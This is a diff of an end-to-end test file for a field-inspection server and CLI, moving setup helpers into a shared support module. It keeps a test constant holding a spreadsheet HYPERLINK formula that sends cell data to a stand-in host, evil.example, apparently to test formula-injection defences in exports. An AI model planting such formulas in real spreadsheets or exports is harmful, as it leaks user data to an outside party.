@@ -3,25 +3,15 @@
 // Chromium driven by playwright-core. Screenshots go to target/e2e-artifacts/.
 import { test, after } from "node:test";
 import assert from "node:assert/strict";
-import { spawn, execFileSync } from "node:child_process";
 import fs from "node:fs";
-import os from "node:os";
 import path from "node:path";
-import readline from "node:readline";
 import zlib from "node:zlib";
-import { fileURLToPath } from "node:url";
 import { chromium } from "playwright-core";
+import { ROOT, ARTIFACTS, FIXTURES, CHROMIUM, SERVER_BIN, CLI_BIN, harness } from "./support.mjs";
 
 // Not import.meta.dirname: Debian 12's Node 18 lacks it.
-const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../..");
-const TARGET = process.env.CARGO_TARGET_DIR || path.join(ROOT, "target");
-const SERVER_BIN = path.join(TARGET, "debug", "gridfield-server");
-const CLI_BIN = path.join(TARGET, "debug", "gridfield");
-const ARTIFACTS = path.join(TARGET, "e2e-artifacts");
-const FIXTURES = path.join(ROOT, "tests", "fixtures");
 const FAIL_ANSWERS = path.join(ROOT, "core", "tests", "fixtures", "fire_safety_fail.json");
 const SITE_PNG = path.join(ROOT, "core", "tests", "fixtures", "site.png");
-const CHROMIUM = process.env.GRIDFIELD_CHROMIUM || "/usr/bin/chromium";
 
 const GRID_A = "320583001003";
 const GRID_B = "320583001004";
@@ -30,51 +20,8 @@ const PASSWORD = "e2e-password-A1";
 // Free text a hostile phone may send: a formula a spreadsheet would run.
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
 
-const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "gridfield-e2e-"));
-const DB = path.join(tmp, "server.db");
-let server = null;
+const { tmp, DB, admin, device, deviceJson, startServer } = harness("console", () => browser);
 let browser = null;
-
-// Everything started here is stopped, whatever happened.
-after(async () => {
-  if (browser) await browser.close().catch(() => {});
-  if (server && server.exitCode === null) {
-    server.kill("SIGTERM");
-    await new Promise((r) => {
-      const t = setTimeout(() => {
-        server.kill("SIGKILL");
-        r();
-      }, 10000);
-      server.once("exit", () => {
-        clearTimeout(t);
-        r();
-      });
-    });
-  }
-  fs.rmSync(tmp, { recursive: true, force: true });
-});
-
-function cleanEnv() {
-  const env = { ...process.env, RUST_LOG: "warn" };
-  for (const k of ["GRIDFIELD_DB_KEY", "GRIDFIELD_LANG", "GRIDFIELD_DATA", "GRIDFIELD_DB"]) delete env[k];
-  return env;
-}
-
-function admin(args, input) {
-  return execFileSync(SERVER_BIN, ["--db", DB, "admin", ...args], {
-    env: cleanEnv(),
-    input: input ?? "",
-    encoding: "utf8",
-  });
-}
-
-function device(dir, args) {
-  return execFileSync(CLI_BIN, ["--data", dir, ...args], { env: cleanEnv(), encoding: "utf8" });
-}
-
-function deviceJson(dir, args) {
-  return JSON.parse(device(dir, ["--json", ...args]));
-}
 
 /** The server's state, as `admin export` sees it: records by kind and id. */
 function serverState() {
@@ -87,23 +34,6 @@ function serverState() {
     return new Map(rows.map((r) => [r.id ?? r.hazard?.id, r]));
   };
   return { inspection: read("inspection"), hazard: read("hazard") };
-}
-
-async function startServer() {
-  const child = spawn(SERVER_BIN, ["--db", DB, "serve", "--listen", "127.0.0.1:0"], {
-    env: cleanEnv(),
-    stdio: ["ignore", "pipe", "inherit"],
-  });
-  server = child;
-  const lines = readline.createInterface({ input: child.stdout });
-  const url = await new Promise((resolve, reject) => {
-    child.once("exit", (code) => reject(new Error(`server exited early (${code})`)));
-    lines.on("line", (line) => {
-      const m = line.match(/^gridfield-server listening on (\S+)/);
-      if (m) resolve(m[1]);
-    });
-  });
-  return url;
 }
 
 /** Entries of a zip archive (central directory), inflated. Enough for XLSX. */
